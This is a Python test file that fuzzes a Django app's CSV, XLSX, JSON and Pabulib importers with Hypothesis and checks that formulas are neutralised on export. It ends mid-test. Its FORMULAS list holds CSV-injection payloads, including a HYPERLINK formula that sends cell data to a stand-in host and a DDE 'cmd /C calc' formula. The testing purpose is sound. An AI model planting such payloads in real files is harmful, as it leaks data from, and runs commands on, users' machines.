"""Every importer, fed generated bad files (hypothesis): never an error of our own, never a partial import,
always a problem that names its row (or field path) and says why.

The importers, one fuzz entry each (`IMPORTERS` below; `test_every_importer_has_a_fuzz_entry` fails for a
new one without an entry):

- CSV/XLSX tables (`core.tables.read_rows`): network members (`network.importing.import_organisations`),
  a panel's pool (`panels.importing.import_pool`) and address list (`panels.letters.sample_households`),
  budget lines (`money.importing.import_budget_lines`), measurements (`impact.importing
  .import_measurements`), insight (`insight.importing.import_insight`), places, area statistics and
  postcodes (`places.services.import_places`, `import_area_statistics`, `import_postcodes`).
- A Polis export, comments.csv and votes.csv (`conversations.polis.import_export`).
- An Open Referral UK feed as JSON (`assets.oruk_import.import_content`; `tests/assets/
  test_oruk_import_fuzz.py` fuzzes its fields one by one, this adds wrong shapes, huge numbers, nesting).
- Paper ballots as a Pabulib `.pb` file (`grants.services.voting.import_pabulib_ballots`).
Surveys have no import (answers come only through the survey form). Other uploads store a file and read
nothing from it (decision documents).

Most files are a valid file from the importer, MUTATED (a cell replaced by a formula, a huge or odd
value, a row made ragged, the header changed, then re-encoded or cut short), so the fuzz reaches past the
header checks into the row rules. Each example runs in a savepoint that is rolled back, so every example
starts from the same world. `HYPOTHESIS_PROFILE=long` (or `make fuzz-imports`) runs many more examples.
"""

import csv
import io
import json
import os
import re
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.apps import apps
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import transaction
from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from ostrom.assets import oruk_import
from ostrom.assets.models import OrukImport
from ostrom.budgeting import PabulibFormatError
from ostrom.conversations import polis
from ostrom.conversations.models import Conversation
from ostrom.core.models import Progress
from ostrom.core.spreadsheets import FORMULA_STARTS
from ostrom.core.tables import CSV_FIELD_LIMIT, ImportRejected, UnreadableFile
from ostrom.grants.models import VOTE_TYPE_OF_BALLOT
from ostrom.grants.services import voting
from ostrom.grants.services.rules import PhaseClosed
from ostrom.impact import importing as impact_importing
from ostrom.insight import importing as insight_importing
from ostrom.money import importing as money_importing
from ostrom.network import importing as network_importing
from ostrom.panels import importing as panels_importing
from ostrom.panels import letters as panels_letters
from ostrom.places import services as places_services
from tests.factories import CoordinatorFactory
from tests.grants.factories import ApplicationFactory, RoundFactory
from tests.world import POSTCODE, client_as, problem_of, world  # noqa: F401 (the fixture)

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parent.parent
DATA = Path(__file__).resolve().parent / "data"
# A dozen files per importer in `make test`; HYPOTHESIS_PROFILE=long (tests/conftest.py) runs its many more.
EXAMPLES = settings.default.max_examples if os.environ.get("HYPOTHESIS_PROFILE") == "long" else 12
FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)

# Texts a spreadsheet would run as a formula (OWASP's list), and values that have broken importers before.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
ODD = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "²",  # isdigit() is true, int() fails
    "٣",  # an Arabic-Indic three
    "NaN",
    "sNaN",
    "Infinity",
    "-0",
    "1e999",
    "1e10000000",
    "9" * 40,
    "-" + "9" * 40,
    "2026-02-30",
    "\ufeff",
    "\u202e",
    '"',
    ",",
    ";",
    "\n",
    "é" * 300,
    "x" * 1000,
]
cell_text = st.one_of(st.text(max_size=12), st.sampled_from(FORMULAS + ODD))


@dataclass
class Importer:
    """How to run one importer on a file, and what a valid file for it looks like."""

    name: str
    function: object  # the service the file goes to
    run: object  # run(world, content: bytes, filename: str) -> count
    rows: object  # rows(world) -> [header, row, row …] of a file that imports


def _network_rows(w):
    return [
        ["name", "kind", "contact_name", "contact_email", "places_served", "description", "website"],
        ["Fuzz Tenants", "vcse", "Ann Able", "ann@example.org", "Ladywood", "Tenants", "https://example.org"],
        ["Fuzz Walkers", "other", "Bo Bell", "bo@example.org", w.ladywood.code, "Walks", ""],
    ]


def _pool_rows(w):
    return [
        ["full_name", "email", "phone", "postcode", "household", "sex"],
        ["Fuzz One", "one@example.org", "0121 496 0000", POSTCODE, "A", "Female"],
        ["Fuzz Two", "two@example.org", "", POSTCODE, "B", "Male"],
    ]


def _letter_rows(w):
    return [["address", "postcode"], ["1 Fuzz Road", POSTCODE], ["2 Fuzz Road", POSTCODE]]


def _money_rows(w):
    return [
        ["year", "category", "prevention_kind", "amount", "source"],
        ["2024", "acute", "", "2,400,000", "Accounts"],
        ["2024", "other", "", "£1500", "Accounts"],
    ]


def _impact_rows(w):
    name = w.impact_indicator.name
    return [
        ["indicator", "measured_on", "value", "unit", "note"],
        [name, "2026-04-30", "41", w.impact_indicator.unit, "From the register"],
        [name, "2026-05-31", "42", w.impact_indicator.unit, ""],
    ]


def _insight_rows(w):
    header = insight_importing.COLUMN_ORDER
    row = {
        "kind": "story",
        "title": "Getting to the GP",
        "text": "Two buses to the surgery.",
        "source": "interview",
        "place": w.ladywood.name,
        "subgroup": "",
        "said_on": "2026-11-23",
        "speaker_name": "",
        "speaker_group": "",
        "consent_to_use": "yes",
        "publication": "anonymised",
        "consent_wording": "I agree that my words may be used without my name.",
    }
    return [header, [row[c] for c in header], [row[c] if c != "kind" else "quote" for c in header]]


def _place_rows(w):
    return [
        ["code", "name", "kind", "parent_code"],
        ["FUZZ01", "Fuzz Ward", "ward", w.ladywood.code],
        ["FUZZ02", "Fuzz Lsoa", "lsoa", "FUZZ01"],
    ]


def _statistic_rows(w):
    return [
        ["place_code", "measure", "category", "value", "source", "year"],
        [w.ladywood.code, "population_total", "", "12000", "Census 2021", "2021"],
        [w.ladywood.code, "imd_rank", "", "2500", "IMD 2019", "2019"],
    ]


def _postcode_rows(w):
    return [["postcode", "lsoa_code"], ["B16 9ZZ", w.lsoa.code], ["B16 9ZY", w.lsoa.code]]


TABLE_IMPORTERS = [
    Importer(
        "network members",
        network_importing.import_organisations,
        lambda w, content, name: network_importing.import_organisations(
            coordinator=w.people["coordinator"], content=content, filename=name
        ),
        _network_rows,
    ),
    Importer(
        "panel pool",
        panels_importing.import_pool,
        lambda w, content, name: panels_importing.import_pool(
            assembly=w.assembly, content=content, filename=name
        ),
        _pool_rows,
    ),
    Importer(
        "panel address list",
        panels_letters.sample_households,
        lambda w, content, name: len(
            panels_letters.sample_households(
                coordinator=w.people["coordinator_ladywood"],
                assembly=w.assembly,
                content=content,
                filename=name,
                count=1,
                seed="fuzz",
            )
        ),
        _letter_rows,
    ),
    Importer(
        "budget lines",
        money_importing.import_budget_lines,
        lambda w, content, name: money_importing.import_budget_lines(
            actor=w.people["coordinator_ladywood"], body=w.body, content=content, filename=name
        ),
        _money_rows,
    ),
    Importer(
        "impact measurements",
        impact_importing.import_measurements,
        lambda w, content, name: impact_importing.import_measurements(
            runner=w.people["coordinator_ladywood"],
            programme=w.impact_programme,
            content=content,
            filename=name,
        ),
        _impact_rows,
    ),
    Importer(
        "insight",
        insight_importing.import_insight,
        lambda w, content, name: insight_importing.import_insight(
            coordinator=w.people["coordinator_ladywood"], content=content, filename=name
        ),
        _insight_rows,
    ),
    Importer(
        "places",
        places_services.import_places,
        lambda w, content, name: places_services.import_places(content=content, filename=name),
        _place_rows,
    ),
    Importer(
        "area statistics",
        places_services.import_area_statistics,
        lambda w, content, name: places_services.import_area_statistics(content=content, filename=name),
        _statistic_rows,
    ),
    Importer(
        "postcodes",
        places_services.import_postcodes,
        lambda w, content, name: places_services.import_postcodes(content=content, filename=name),
        _postcode_rows,
    ),
]
OTHER_IMPORTERS = {
    "polis export": polis.import_export,
    "open referral uk": oruk_import.import_content,
    "pabulib ballots": voting.import_pabulib_ballots,
}
FUZZED = {importer.function for importer in TABLE_IMPORTERS} | set(OTHER_IMPORTERS.values())
# What the source calls to read an uploaded file; every function that calls one must be fuzzed here.
READERS = re.compile(r"\b(read_rows|table_rows|csv_reader|parse_pabulib|entries_of)\(")
# Functions that call a reader for an importer above, or are a reader themselves.
NOT_IMPORTERS = {
    "ostrom.core.tables.read_rows",  # the readers
    "ostrom.core.tables._csv_rows",
    "ostrom.panels.importing.table_rows",
    "ostrom.conversations.polis._rows",
    "ostrom.assets.oruk_import.fetch_feed",  # a feed from a web address: the same checks as a file
    "ostrom.budgeting.pabulib.read_pabulib",  # the engine's own reader of a file on disk
    "ostrom.budgeting.__main__.main",  # the engine's command line
}


def _functions_calling_a_reader() -> set[str]:
    """module.function for every top-level function in ostrom/ whose body calls a file reader."""
    found = set()
    for path in (ROOT / "ostrom").rglob("*.py"):
        module = ".".join(path.relative_to(ROOT).with_suffix("").parts)
        current = None
        for line in path.read_text().splitlines():
            if match := re.match(r"(?:async )?def (\w+)\(", line):
                current = match.group(1)
            elif line and not line[0].isspace() and not line.startswith((")", "@", "#")):
                current = None
            if current and READERS.search(line) and not line.lstrip().startswith("def "):
                found.add(f"{module}.{current}")
    return found


def test_every_importer_has_a_fuzz_entry():
    fuzzed = {f"{function.__module__}.{function.__name__}" for function in FUZZED}
    callers = _functions_calling_a_reader() - NOT_IMPORTERS
    assert callers - fuzzed == set(), "a new importer: add a fuzz entry for it in this module"
    assert len(TABLE_IMPORTERS) + len(OTHER_IMPORTERS) == len(FUZZED)


# ---- building and breaking files ---------------------------------------------------------------------


def csv_bytes(rows, encoding="utf-8") -> bytes:
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue().encode(encoding, errors="replace")


def xlsx_bytes(rows) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        # openpyxl refuses control characters a workbook cannot hold; numbers go in as numbers.
        sheet.append([_xlsx_value(value) for value in row])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _xlsx_value(value):
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)[:32_767]
        if re.fullmatch(r"-?\d{1,15}", value):
            return int(value)
        if value.startswith("="):
            return value  # openpyxl keeps it as a formula: a real workbook can have one
    return value


@st.composite
def mutated_rows(draw, rows):
    """The valid rows with a few cells, rows or header names broken."""
    rows = [list(row) for row in rows]
    for _ in range(draw(st.integers(min_value=1, max_value=4))):
        kind = draw(
            st.sampled_from(["cell", "cell", "cell", "ragged", "extra", "header", "drop-header", "copy-row"])
        )
        r = draw(st.integers(min_value=0 if kind.endswith("header") else 1, max_value=len(rows) - 1))
        row = rows[r]
        if kind == "cell" and row:
            row[draw(st.integers(0, len(row) - 1))] = draw(cell_text)
        elif kind == "ragged" and row:
            del row[draw(st.integers(0, len(row) - 1)) :]
        elif kind == "extra":
            row.extend(draw(st.lists(cell_text, min_size=1, max_size=3)))
        elif kind == "header" and rows[0]:
            rows[0][draw(st.integers(0, len(rows[0]) - 1))] = draw(cell_text)
        elif kind == "drop-header" and rows[0]:
            del rows[0][draw(st.integers(0, len(rows[0]) - 1))]
        elif kind == "copy-row":
            rows.append(list(row))
    return rows


@st.composite
def broken_table(draw, rows):
    """(content, filename, how it was made) for a mutated CSV or XLSX file."""
    rows = draw(mutated_rows(rows))
    if draw(st.integers(0, 9)) == 0:  # a cell past the CSV reader's limit
        where = draw(st.integers(1, len(rows) - 1))
        rows[where] = [*rows[where], "x" * (CSV_FIELD_LIMIT + 1)]
    shape = draw(
        st.sampled_from(
            [
                "utf-8",
                "utf-8",
                "utf-8-sig",
                "utf-16",
                "latin-1",
                "bad-utf-8",
                "cut",
                "xlsx",
                "xlsx",
                "zip-cut",
            ]
            + ["csv-as-xlsx", "xlsx-as-csv"]
        )
    )
    if shape in {"utf-8", "utf-8-sig", "utf-16", "latin-1"}:
        return csv_bytes(rows, shape), "file.csv", shape
    if shape == "bad-utf-8":
        content = csv_bytes(rows)
        at = draw(st.integers(0, len(content)))
        return (
            content[:at]
            + draw(st.sampled_from([b"\xff", b"\xc3", b"\xed\xa0\x80", b"\x80\x80"]))
            + content[at:],
            "file.csv",
            shape,
        )
    if shape == "cut":
        content = csv_bytes(rows)
        return content[: draw(st.integers(0, len(content)))], "file.csv", shape
    if shape == "xlsx":
        return xlsx_bytes(rows), "file.xlsx", shape
    if shape == "zip-cut":
        content = xlsx_bytes(rows)
        return content[: draw(st.integers(0, len(content) - 1))], "file.xlsx", shape
    if shape == "csv-as-xlsx":
        return csv_bytes(rows), "file.xlsx", shape
    return xlsx_bytes(rows), "file.csv", shape


# ---- the properties ----------------------------------------------------------------------------------

# Words that only a programmer's message would contain.
NOT_PLAIN = re.compile(r"Traceback|Error\b|Exception|object at 0x|<[a-z_.]+ |\bNone\b|errno", re.IGNORECASE)


def table_counts() -> dict[str, int]:
    """Rows in every table (concrete models), to show a rejected file wrote nothing anywhere."""
    return {
        model._meta.label: model._base_manager.count()
        for model in apps.get_models()
        if model._meta.managed and not model._meta.proxy
    }


def assert_plain(message: str):
    assert isinstance(message, str) and message.strip(), "a problem with no words"
    assert not NOT_PLAIN.search(message), f"not plain words: {message!r}"


def assert_rejection_names_rows(error: Exception, content: bytes, rows: int):
    if isinstance(error, ImportRejected):
        assert error.problems, "rejected with no problem listed"
        last = max(rows, content.count(b"\n"), content.count(b"\r")) + 2
        for problem in error.problems:
            assert isinstance(problem.row, int) and 1 <= problem.row <= last, problem
            assert_plain(problem.problem)
        assert_plain(str(error))
    else:
        assert isinstance(error, UnreadableFile)
        assert_plain(str(error))


def try_in_savepoint(run, counts_before):
    """Run the import in a savepoint that is always undone; return the error it gave, if any, after
    checking that a failure wrote nothing."""
    error = None
    with transaction.atomic():
        try:
            run()
        except Exception as problem:
            error = problem
            assert table_counts() == counts_before, "a rejected file left rows behind"
        transaction.set_rollback(True)
    return error


@pytest.fixture(scope="module")
def fuzz_world(world):  # noqa: F811 (the fixture)
    return world


@pytest.mark.parametrize("importer", TABLE_IMPORTERS, ids=lambda i: i.name)
def test_a_valid_file_imports_so_the_fuzz_reaches_the_rows(fuzz_world, importer):
    rows = importer.rows(fuzz_world)
    for content, name in [(csv_bytes(rows), "file.csv"), (xlsx_bytes(rows), "file.xlsx")]:
        with transaction.atomic():
            assert importer.run(fuzz_world, content, name) == len(rows) - 1 or importer.name.endswith("list")
            transaction.set_rollback(True)


@pytest.mark.parametrize("importer", TABLE_IMPORTERS, ids=lambda i: i.name)
def test_a_broken_table_is_imported_whole_or_rejected_row_by_row(fuzz_world, importer):
    counts = table_counts()
    valid = importer.rows(fuzz_world)

    @FUZZ
    @given(file=broken_table(valid))
    def check(file):
        content, name, _shape = file
        error = try_in_savepoint(lambda: importer.run(fuzz_world, content, name), counts)
        if error is not None:
            if not isinstance(error, ImportRejected | UnreadableFile):
                raise error
            assert_rejection_names_rows(error, content, len(valid) + 4)

    check()


# ---- Polis, ORUK and Pabulib ------------------------------------------------------------------------


def _polis_files():
    folder = DATA / "polis/openData/15-per-hour-seattle"
    comments = list(csv.reader(io.StringIO((folder / "comments.csv").read_text())))[:7]
    ids = {row[2] for row in comments[1:]}
    votes = [row for row in csv.reader(io.StringIO((folder / "votes.csv").read_text())) if row[2] in ids]
    return comments, [["timestamp", "datetime", "comment-id", "voter-id", "vote"], *votes[:30]]


def _conversation(w, slug):
    return Conversation.objects.create(
        question="Fuzzed Polis import",
        slug=slug,
        place=w.ladywood,
        created_by=w.people["coordinator"],
    )


@st.composite
def broken_polis(draw):
    comments, votes = _polis_files()
    which = draw(st.sampled_from(["comments", "votes", "both"]))
    if which in {"comments", "both"}:
        comments = draw(mutated_rows(comments))
    if which in {"votes", "both"}:
        votes = draw(mutated_rows(votes))
    encoding = draw(st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "latin-1"]))
    return csv_bytes(comments, encoding), csv_bytes(votes)


POLIS_PROBLEM = re.compile(r"^(comments|votes)\.csv row \d+: \S")


def test_a_broken_polis_export_imports_nothing_and_names_the_file_and_row(fuzz_world):
    counts = table_counts()
    conversation = _conversation(fuzz_world, "fuzzed-polis")
    moderator = fuzz_world.people["coordinator"]

    @FUZZ
    @given(files=broken_polis())
    def check(files):
        comments, votes = files
        error = try_in_savepoint(
            lambda: polis.import_export(
                moderator=moderator, conversation=conversation, comments=comments, votes=votes
            ),
            counts | {"conversations.Conversation": counts["conversations.Conversation"] + 1},
        )
        if error is not None:
            if not isinstance(error, ValidationError):
                raise error
            for message in error.messages:
                assert_plain(message)
                if not message.startswith("The "):  # a whole-file problem: "The votes file has no …"
                    assert POLIS_PROBLEM.match(message), message

    check()


def test_a_polis_file_with_a_row_past_the_reader_limit_is_a_problem(fuzz_world):
    comments, votes = _polis_files()
    comments[2][-1] = "x" * (CSV_FIELD_LIMIT + 1)
    conversation = _conversation(fuzz_world, "huge-polis")
    with pytest.raises(ValidationError) as rejected:
        polis.import_export(
            moderator=fuzz_world.people["coordinator"],
            conversation=conversation,
            comments=csv_bytes(comments),
            votes=csv_bytes(votes),
        )
    assert_plain(rejected.value.messages[0])


ORUK_SHAPES = st.one_of(
    st.sampled_from(
        [
            b"[" + b"9" * 5000 + b"]",  # an integer past Python's 4300-digit limit
            b'{"id": "x", "name": ' + b"1" * 5000 + b"}",
            b'[{"id": 1e999, "name": -1e999}]',
            b"[" * 5000 + b"]" * 5000,
            b'{"contents": {"a": 1}}',
            b'{"services": "not a list"}',
            b"\xef\xbb\xbf[]",
            b"\xff\xfe[\x00]\x00",  # UTF-16
            b"null",
            b'"a string"',
            b"12",
            b"[null, 1, true, []]",
        ]
    ),
    st.recursive(
        st.one_of(
            st.none(),
            st.booleans(),
            st.integers(min_value=-(10**30), max_value=10**30),
            st.floats(),
            st.text(max_size=10),
        ),
        lambda inner: (
            st.lists(inner, max_size=3)
            | st.dictionaries(
                st.sampled_from(["id", "name", "contents", "services", "organization", "x"]),
                inner,
                max_size=3,
            )
        ),
        max_leaves=10,
    ).map(lambda data: json.dumps(data).encode()),
)


def test_an_open_referral_file_of_the_wrong_shape_is_a_problem_at_entry_zero(fuzz_world):
    counts = table_counts()

    @FUZZ
    @given(content=ORUK_SHAPES)
    def check(content):
        with transaction.atomic():
            the_import = OrukImport.objects.create(source_name="fuzz")
            report = oruk_import.import_content(content, oruk_import=the_import)
            assert isinstance(report["imported"], bool)
            if not report["imported"]:
                assert report["rejected"]
                for problem in report["rejected"]:
                    assert isinstance(problem["entry"], int) and problem["entry"] >= 0
                    assert isinstance(problem["path"], str)
                    assert_plain(problem["problem"])
                assert table_counts() == counts | {"assets.OrukImport": counts["assets.OrukImport"] + 1}
            transaction.set_rollback(True)

    check()


@pytest.fixture
def voting_round():
    """A round open for voting with two shortlisted projects, run by a coordinator."""
    funding_round = RoundFactory(in_phase="voting")
    for _ in range(2):
        ApplicationFactory(funding_round=funding_round, status="shortlisted")
    return funding_round, CoordinatorFactory()


def _pabulib_text(funding_round) -> str:
    projects = list(funding_round.applications.filter(status="shortlisted"))
    vote_type = VOTE_TYPE_OF_BALLOT[funding_round.ballot_type]
    lines = ["META", "key;value", "budget;60000", f"vote_type;{vote_type}", "PROJECTS", "project_id;cost"]
    lines += [f"{p.pk};{int(p.amount_requested)}" for p in projects]
    lines += ["VOTES", "voter_id;vote", f"v1;{projects[0].pk}", f"v2;{projects[0].pk}"]
    return "\n".join(lines) + "\n"


@st.composite
def broken_pabulib(draw, text):
    lines = text.splitlines()
    for _ in range(draw(st.integers(1, 3))):
        at = draw(st.integers(0, len(lines) - 1))
        how = draw(st.sampled_from(["replace-field", "drop", "duplicate", "cut"]))
        if how == "replace-field":
            fields = lines[at].split(";")
            fields[draw(st.integers(0, len(fields) - 1))] = draw(cell_text)
            lines[at] = ";".join(fields)
        elif how == "drop":
            del lines[at]
            if not lines:
                lines = [""]
        elif how == "duplicate":
            lines.insert(at, lines[at])
        else:
            lines[at] = lines[at][: draw(st.integers(0, len(lines[at])))]
    return "\n".join(lines)


def test_a_broken_pabulib_file_imports_no_ballot_and_says_where(voting_round):
    funding_round, coordinator = voting_round
    text = _pabulib_text(funding_round)
    counts = table_counts()
    with transaction.atomic():
        assert (
            voting.import_pabulib_ballots(coordinator=coordinator, funding_round=funding_round, text=text)
            == 2
        )
        transaction.set_rollback(True)

    @FUZZ
    @given(broken=broken_pabulib(text))
    def check(broken):
        error = try_in_savepoint(
            lambda: voting.import_pabulib_ballots(
                coordinator=coordinator, funding_round=funding_round, text=broken
            ),
            counts,
        )
        if error is not None:
            if not isinstance(error, ValidationError | PabulibFormatError | PhaseClosed):
                raise error
            message = error.messages[0] if isinstance(error, ValidationError) else str(error)
            assert_plain(message)

    check()


# ---- through the real pages: never a 500, and the progress says which rows ---------------------------

HOSTILE = [
    # name, a file: huge cell on row 3, a formula, a NUL, a superscript "year"
    ("huge", lambda rows: [*rows[:2], [*rows[2], "x" * (CSV_FIELD_LIMIT + 1)]]),
    (
        "odd",
        lambda rows: [rows[0], *[[("²" if i == 0 else "a\x00b") for i, _ in enumerate(r)] for r in rows[1:]]],
    ),
]
PAGES = {
    "network members": ("network:import", lambda w: [], "coordinator"),
    "panel pool": ("panels:import", lambda w: [w.assembly.slug], "coordinator_ladywood"),
    "budget lines": ("money:import-budget-lines", lambda w: [w.body.slug], "coordinator_ladywood"),
    "impact measurements": (
        "impact:measurement-import",
        lambda w: [w.impact_programme.slug],
        "coordinator_ladywood",
    ),
    "insight": ("insight:import", lambda w: [], "coordinator_ladywood"),
}


@pytest.mark.parametrize("name", sorted(PAGES))
@pytest.mark.parametrize("hostile", HOSTILE, ids=lambda h: h[0])
def test_a_hostile_file_through_the_import_page_fails_with_numbered_rows(
    fuzz_world, run_tasks, name, hostile
):
    importer = next(i for i in TABLE_IMPORTERS if i.name == name)
    url_name, args, role = PAGES[name]
    content = csv_bytes(hostile[1](importer.rows(fuzz_world)))
    counts = table_counts()
    client = client_as(fuzz_world, role)
    response = client.post(
        reverse(url_name, args=args(fuzz_world)), {"file": SimpleUploadedFile("f.csv", content)}
    )
    assert response.status_code < 500, problem_of(response)
    run_tasks()
    progress = Progress.objects.order_by("-pk").first()
    assert progress.status == Progress.Status.FAILED, progress.message
    assert progress.message.startswith("Nothing was imported"), progress.message
    assert "on our side" not in progress.message
    assert progress.details and all(d["row"] >= 1 and d["problem"] for d in progress.details)
    changed = {label for label, count in table_counts().items() if count != counts[label]}
    # The page writes only its progress record and queued task (the upload is deleted once read), and
    # signing in writes a session and its access log.
    assert changed <= {
        "core.Progress",
        "django_tasks_database.DBTaskResult",
        "sessions.Session",
        "axes.AccessLog",
    }


COMMANDS = {
    "places": "import_places",
    "area statistics": "import_area_stats",
    "postcodes": "import_postcodes",
}


@pytest.mark.parametrize("name", sorted(COMMANDS))
@pytest.mark.parametrize("hostile", HOSTILE, ids=lambda h: h[0])
def test_a_hostile_file_through_the_places_commands_is_a_row_numbered_error(
    fuzz_world, tmp_path, name, hostile
):
    """Places, area statistics and postcodes have no upload page: an operator imports them with a command."""
    importer = next(i for i in TABLE_IMPORTERS if i.name == name)
    path = tmp_path / "file.csv"
    path.write_bytes(csv_bytes(hostile[1](importer.rows(fuzz_world))))
    counts = table_counts()
    with pytest.raises(CommandError) as failed:
        call_command(COMMANDS[name], str(path))
    assert re.search(r"^Row \d+: \S", str(failed.value), re.MULTILINE), str(failed.value)
    assert table_counts() == counts


@pytest.mark.parametrize("hostile", HOSTILE, ids=lambda h: h[0])
def test_a_hostile_address_list_through_the_letters_page_is_a_row_numbered_error(fuzz_world, hostile):
    content = csv_bytes(hostile[1](_letter_rows(fuzz_world)))
    client = client_as(fuzz_world, "coordinator_ladywood")
    response = client.post(
        reverse("panels:letters", args=[fuzz_world.assembly.slug]),
        {"file": SimpleUploadedFile("f.csv", content), "count": 1, "seed": "x", "oversampling": "2"},
    )
    assert response.status_code < 500, problem_of(response)
    assert re.search(r"Row \d+:", response.content.decode())


def test_a_hostile_polis_export_through_its_page_is_a_row_numbered_error(fuzz_world):
    comments, votes = _polis_files()
    comments[2][-1] = "a\x00b"
    votes[1][3] = "²"
    client = client_as(fuzz_world, "coordinator")
    response = client.post(
        reverse("conversations:polis-import", args=[fuzz_world.conversation.slug]),
        {
            "comments": SimpleUploadedFile("comments.csv", csv_bytes(comments)),
            "votes": SimpleUploadedFile("votes.csv", csv_bytes(votes)),
        },
    )
    assert response.status_code == 400, problem_of(response)
    assert re.search(r"(comments|votes)\.csv row \d+", response.content.decode())


def test_a_hostile_pabulib_file_through_the_paper_ballots_page_says_where(client, voting_round):
    funding_round, coordinator = voting_round
    text = _pabulib_text(funding_round).replace(";2000\n", ";Infinity\n", 1)
    client.force_login(coordinator)
    response = client.post(
        reverse("grants:paper-ballots", args=[funding_round.slug]),
        {"form": "import", "pb_file": SimpleUploadedFile("paper.pb", text.encode())},
        follow=True,
    )
    assert response.status_code == 200, problem_of(response)
    assert "Nothing was imported. Line" in response.content.decode()


def test_a_hostile_open_referral_file_through_the_exchange_page_is_reported(fuzz_world, run_tasks):
    client = client_as(fuzz_world, "coordinator")
    response = client.post(
        reverse("assets:exchange"), {"file": SimpleUploadedFile("feed.json", b"[" + b"9" * 5000 + b"]")}
    )
    assert response.status_code == 302, problem_of(response)
    run_tasks()
    the_import = OrukImport.objects.order_by("-pk").first()
    assert the_import.report["imported"] is False
    assert the_import.report["rejected"][0]["entry"] == 0
    page = client.get(reverse("assets:exchange-import", args=[the_import.pk]))
    assert page.status_code == 200


# ---- a formula accepted as text comes out of every export neutralised --------------------------------


def _cells_of_csv(text: str):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


NUMBER = re.compile(r"[-+]?\d+(\.\d+)?")  # a spreadsheet reads "-1" as a number, not a formula


def assert_no_live_formula(cells):
    live = [
        cell
        for cell in cells
        if isinstance(cell, str) and cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)
    ]
    assert not live, f"cells a spreadsheet would run: {live[:3]}"


def test_formulas_imported_as_text_come_out_of_the_exports_neutralised(fuzz_world):
    formula = FORMULAS[0]
    # Letters: the address list's addresses go into the mail-merge CSV.
    panels_letters.sample_households(
        coordinator=fuzz_world.people["coordinator_ladywood"],
        assembly=fuzz_world.assembly,
        content=csv_bytes(
            [
                ["address", "postcode"],
                *[[f"{start}{n} Fuzz Road", POSTCODE] for n, start in enumerate(FORMULAS)],
            ]
        ),
        filename="addresses.csv",
        count=len(FORMULAS),
        seed="fuzz",
    )
    exported = _cells_of_csv(panels_letters.mail_merge_csv(fuzz_world.assembly))
    assert any(cell.startswith("'=HYPERLINK") for cell in exported)
    assert_no_live_formula(exported)

    # Insight: titles and texts go into the insight export.
    rows = _insight_rows(fuzz_world)
    title, text = rows[0].index("title"), rows[0].index("text")
    rows[1][title], rows[1][text] = formula, "+" + rows[1][text]
    rows[2][title], rows[2][text] = "@SUM(A1)", "-" + rows[2][text]
    insight_importing.import_insight(
        coordinator=fuzz_world.people["coordinator_ladywood"], content=csv_bytes(rows), filename="i.csv"
    )
    response = client_as(fuzz_world, "coordinator_ladywood").get(reverse("insight:insight-export"))
    assert response.status_code == 200
    exported = _cells_of_csv(response.content.decode())
    assert any(cell.startswith("'=HYPERLINK") for cell in exported)
    assert_no_live_formula(exported)

    # Polis: statements go into comments.csv (the full export, as a moderator downloads it).
    comments, votes = _polis_files()
    for n, row in enumerate(comments[1:]):
        row[-1] = FORMULAS[n % len(FORMULAS)] + " wages"
    conversation = _conversation(fuzz_world, "formulas")
    polis.import_export(
        moderator=fuzz_world.people["coordinator"],
        conversation=conversation,
        comments=csv_bytes(comments),
        votes=csv_bytes(votes),
    )
    exported = _cells_of_csv(polis.comments_csv(conversation, full=True))
    assert any(cell.startswith("'=HYPERLINK") for cell in exported)
    assert_no_live_formula(exported)


def test_the_fuzzed_xlsx_files_are_real_workbooks():
    """The strategy's workbooks open as zip files with a sheet, so the fuzz is of real Excel files."""
    content = xlsx_bytes([["a", "b"], ["=1+1", "2"]])
    assert "xl/worksheets/sheet1.xml" in zipfile.ZipFile(io.BytesIO(content)).namelist()


# ---- what the fuzz found, pinned so that it stays fixed ----------------------------------------------


@pytest.mark.parametrize("importer", TABLE_IMPORTERS, ids=lambda i: i.name)
def test_a_field_past_the_csv_limit_is_a_problem_on_its_row(fuzz_world, importer):
    rows = importer.rows(fuzz_world)
    rows[2] = [*rows[2], "x" * (CSV_FIELD_LIMIT + 1)]
    with pytest.raises(ImportRejected) as rejected:
        importer.run(fuzz_world, csv_bytes(rows), "file.csv")
    assert [problem.row for problem in rejected.value.problems] == [3]


@pytest.mark.parametrize("importer", ["budget lines", "area statistics"])
def test_a_year_of_digits_that_are_not_0_to_9_is_a_problem_on_its_row(fuzz_world, importer):
    importer = next(i for i in TABLE_IMPORTERS if i.name == importer)
    rows = importer.rows(fuzz_world)
    rows[1][rows[0].index("year")] = "²"
    with pytest.raises(ImportRejected) as rejected:
        importer.run(fuzz_world, csv_bytes(rows), "file.csv")
    assert {problem.row for problem in rejected.value.problems} == {2}


def test_an_open_referral_number_too_long_to_read_and_a_null_entry_are_problems_in_json_words(fuzz_world):
    def rejected(content):
        report = oruk_import.import_content(content, oruk_import=OrukImport.objects.create(source_name="f"))
        return [problem["problem"] for problem in report["rejected"]]

    assert rejected(b"[" + b"9" * 5000 + b"]") == ["The file has a number too long to be a real value"]
    assert rejected(b"[null]") == ["null is not a service (an object)"]


@pytest.mark.parametrize("value", ["Infinity", "-Infinity", "NaN", "1e10000000"])
def test_a_pabulib_number_that_is_not_finite_or_is_enormous_names_its_line(voting_round, value):
    funding_round, coordinator = voting_round
